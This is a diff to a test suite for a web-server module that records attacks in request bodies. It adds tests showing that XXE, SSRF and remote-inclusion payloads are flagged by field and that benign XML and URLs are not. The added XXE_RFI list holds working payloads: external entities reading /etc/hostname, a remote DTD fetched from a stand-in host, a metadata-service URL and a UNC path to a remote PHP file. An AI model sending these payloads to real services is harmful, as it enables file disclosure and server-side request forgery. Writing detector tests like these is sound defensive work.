@@ -2,7 +2,8 @@
 a body as the application reads it (an input filter) and classifies its
 fields at log time. Attacks in form, multipart, JSON and XML bodies sent
 to a CGI application (mod_cgi) and through mod_proxy to a backend on
-loopback are recorded with where they were (body:form:user, ...); the
+loopback are recorded with where they were (body:form:user, ...), an
+XML body's DOCTYPE too (body:xml:!doctype, XXE); the
 application gets every byte unchanged (its SHA-256 is compared), also
 gzipped (mod_deflate), chunked, with Expect: 100-continue and for a
 1 GiB upload, with the children's memory bounded. Aborted uploads and a
@@ -171,6 +172,73 @@ def test_benign_bodies_and_file_content_not_flagged(cgi):
     assert record_for(cgi, "after=1") is not None
     uris = [r["uri"] for r in cgi.records()]
     assert not [u for u in uris if "benign=" in u or "off=1" in u], uris
+
+
+XXE_RFI = [
+    # (marker, content type, body, category, field)
+    ("xxe", "application/xml",
+     b'<?xml version="1.0"?>\n<!DOCTYPE r [\n <!ENTITY e SYSTEM '
+     b'"file:///etc/hostname">\n]>\n<r><n>&e;</n></r>', "lfi",
+     "body:xml:!doctype"),
+    ("oob", "application/soap+xml",
+     b'<!DOCTYPE s [<!ENTITY % d SYSTEM "http://oob.example.net/d.dtd"> %d;]>'
+     b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope">'
+     b'<s:Body><q>1</q></s:Body></s:Envelope>', "lfi", "body:xml:!doctype"),
+    ("svg", MP, multipart([(b"avatar", b'<?xml version="1.0"?><!DOCTYPE svg '
+                            b'[<!ENTITY x SYSTEM "file:///etc/hostname">]>'
+                            b'<svg xmlns="http://www.w3.org/2000/svg">'
+                            b'<text>&x;</text></svg>', b"me.svg")]),
+     "lfi", "body:multipart:avatar.!doctype"),
+    ("meta", JSON, b'{"profile": {"avatar_url": "http://[::ffff:a9fe:a9fe]'
+                   b'/latest/meta-data/"}}', "rfi",
+     "body:json:$.profile.avatar_url"),
+    ("unc", FORM, b"page=%5C%5Cevil.example.net%40SSL%40443%5CDavWWWRoot%5Cx"
+                  b".php&lang=en", "rfi", "body:form:page"),
+]
+
+
+def test_xxe_and_remote_inclusion_in_bodies(cgi):
+    """An XML body's DOCTYPE with external entities, an uploaded SVG's,
+    a metadata URL in JSON and a WebDAV UNC path in a form are recorded
+    where they were; XML with a public DTD and no entity, SOAP without a
+    DOCTYPE and ordinary URLs in bodies (webhooks, OAuth redirects,
+    feeds, a blog's address) are not flagged."""
+    benign = [
+        ("application/xml", b'<?xml version="1.0" encoding="UTF-8"?>\n'
+         b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.'
+         b'apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict>'
+         b'<key>URL</key><string>https://example.com/</string></dict></plist>'),
+        ("application/xhtml+xml", b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML '
+         b'1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
+         b'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Tom &amp; '
+         b'Jerry</p></body></html>'),
+        ("text/xml", b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/'
+         b'soap/envelope/"><soap:Body><Subscribe><Callback>https://shop.'
+         b'example.com/hooks/stock</Callback></Subscribe></soap:Body>'
+         b'</soap:Envelope>'),
+        (MP, multipart([(b"logo", b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//'
+                         b'EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.'
+                         b'dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
+                         b"logo.svg")])),
+        (JSON, b'{"webhook": "https://hooks.example.com/services/T0/B0", '
+               b'"redirect_uri": "https://app.example.com/oauth/callback", '
+               b'"feed": "https://my-blog.example/feed.xml"}'),
+        (FORM, b"author=Ana&url=https%3A%2F%2Fmy-blog.example%2F&comment=Nice"
+               b"+post%2C+see+https%3A%2F%2Fexample.org%2Fa.txt"),
+    ]
+    for i, (ctype, body) in enumerate(benign):
+        st, resp = cgi.post("/cgi/echo?clean=%d" % i, body, ctype)
+        assert st == 200 and resp.strip() == digest(body)
+    for marker, ctype, body, cat, field in XXE_RFI:
+        st, resp = cgi.post("/cgi/echo?t=" + marker, body, ctype)
+        assert st == 200 and resp.strip() == digest(body)
+    for marker, ctype, body, cat, field in XXE_RFI:
+        rec = record_for(cgi, "t=" + marker)
+        assert rec is not None, "no record for the %s body" % marker
+        assert field in fields(rec, cat), rec["rules"]
+        lwhttpd.check_record(rec)
+    uris = [r["uri"] for r in cgi.records()]
+    assert not [u for u in uris if "clean=" in u], uris
 
 
 def test_query_and_body_both_inspected(cgi):
